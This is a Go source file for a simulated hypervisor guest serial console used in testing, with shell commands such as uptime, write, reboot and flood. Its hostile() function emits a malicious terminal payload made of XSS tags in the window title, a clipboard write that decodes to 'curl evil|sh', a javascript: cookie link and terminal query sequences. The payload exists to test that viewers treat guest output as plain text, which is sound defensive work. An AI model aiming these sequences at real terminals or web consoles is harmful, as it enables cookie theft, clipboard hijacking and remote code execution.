package simhv

import (
	"bufio"
	"io"
	"strconv"
	"strings"

	"github.com/hypervisor-control-plane/hcp/providers/sim/simadmin"
)

// The serial line has a shell that a test can talk to: `help` lists what it
// knows. Each stream has a line of its own.

const prompt = "$ "

// maxFlood bounds the output of `flood`, in KiB.
const maxFlood = 64 << 10

// ServeSerial serves the serial line until either side ends it, which the caller
// does by closing the connection.
func (d *Display) ServeSerial(out io.Writer, in *bufio.Reader) {
	_, view, ok := d.see()
	if !ok {
		return
	}
	if _, err := io.WriteString(out, "\r\n"+view.Hostname+" serial console\r\n"+prompt); err != nil {
		return
	}
	var line []byte
	var last byte
	for {
		b, err := in.ReadByte()
		if err != nil {
			return
		}
		echo := ""
		switch {
		case b == '\n' && last == '\r': // the end of the line that was taken already
		case b == '\r' || b == '\n':
			if !d.serialLine(out, string(line)) {
				return
			}
			line = line[:0]
		case b == '\b' || b == 0x7f:
			if len(line) > 0 {
				line, echo = line[:len(line)-1], "\b \b"
			}
		case b == 3: // Ctrl-C
			line, echo = line[:0], "^C\r\n"+prompt
		case b >= ' ' && len(line) < maxLine:
			line, echo = append(line, b), string([]byte{b})
		}
		last = b
		if _, err := io.WriteString(out, echo); err != nil {
			return
		}
	}
}

// serialLine carries a line out, and reports whether the stream goes on.
func (d *Display) serialLine(out io.Writer, line string) bool {
	_, view, ok := d.see()
	if !ok {
		return false
	}
	if _, err := io.WriteString(out, "\r\n"); err != nil {
		return false
	}
	var err error
	switch name, arg, _ := strings.Cut(strings.TrimSpace(line), " "); name {
	case "escape":
		_, err = io.WriteString(out, hostile())
	case "flood":
		err = flood(out, arg)
	default:
		_, err = io.WriteString(out, strings.ReplaceAll(d.command(view, line), "\n", "\r\n"))
	}
	if err == nil {
		_, err = io.WriteString(out, prompt)
	}
	return err == nil
}

// command is what the shell answers, on the serial line and on the screen; each
// line of it ends with a newline.
func (d *Display) command(view GuestView, line string) string {
	name, arg, _ := strings.Cut(strings.TrimSpace(line), " ")
	switch name {
	case "":
		return ""
	case "uptime":
		return view.uptime() + "\n"
	case "hostname":
		return view.Hostname + "\n"
	case "boot":
		return "boot " + strconv.Itoa(view.Boot) + "\n"
	case "echo":
		return arg + "\n"
	case "read":
		return view.Data + "\n"
	case "write":
		if len(arg) > simadmin.MaxData {
			return "write: at most " + strconv.Itoa(simadmin.MaxData) + " bytes\n"
		}
		d.machine.Write(arg)
		return ""
	case "reboot":
		d.machine.Restart()
		return ""
	case "help":
		return "uptime, hostname, boot, echo TEXT, write TEXT, read, reboot, escape, flood KIB\n"
	}
	return name + ": not found\n"
}

// flood writes so many KiB of lines, for those who read slowly.
func flood(out io.Writer, kib string) error {
	n, err := strconv.Atoi(strings.TrimSpace(kib))
	if err != nil || n < 1 || n > maxFlood {
		_, err := io.WriteString(out, "flood: 1 to "+strconv.Itoa(maxFlood)+" KiB\r\n")
		return err
	}
	const width = 64
	block := strings.Repeat(strings.Repeat("x", width-2)+"\r\n", 1024/width)
	for range n {
		if _, err := io.WriteString(out, block); err != nil {
			return err
		}
	}
	return nil
}

// hostile is what a malicious guest writes to the terminal of whoever looks: it
// wants to answer for them, to reach their clipboard and their page. To a page
// that is safe it is text and no more.
func hostile() string {
	const esc, bel, st = "\x1b", "\x07", "\x1b\\"
	return strings.Join([]string{
		"begin",
		// The title.
		esc + "]0;<img src=x onerror=alert(1)>" + bel,
		// The clipboard.
		esc + "]52;c;Y3VybCBldmlsfHNo" + bel,
		// The clipboard, read.
		esc + "]52;c;?" + bel,
		// A link.
		esc + "]8;;javascript:alert(document.cookie)" + st + "link" + esc + "]8;;" + st,
		// Colours, asked for.
		esc + "]4;0;?" + bel + esc + "]10;?" + bel,
		// Identity, position, title: asked for.
		esc + "[c" + esc + "[>c" + esc + "[5n" + esc + "[6n" + esc + "[21t",
		// Settings, asked for.
		esc + "P$q\"p" + st + esc + "P+q544e" + st,
		// Mouse reports, bracketed paste.
		esc + "[?1000h" + esc + "[?1003h" + esc + "[?2004h",
		// The other screen, and back.
		esc + "[?1049h" + esc + "[?1049l",
		// A size, a place, a repeat without end.
		esc + "[8;1;1t" + esc + "[99999;99999H" + esc + "[1000000000b",
		"<script>alert(1)</script>",
		// All of it reset.
		esc + "c",
		"end\r\n",
	}, "")
}
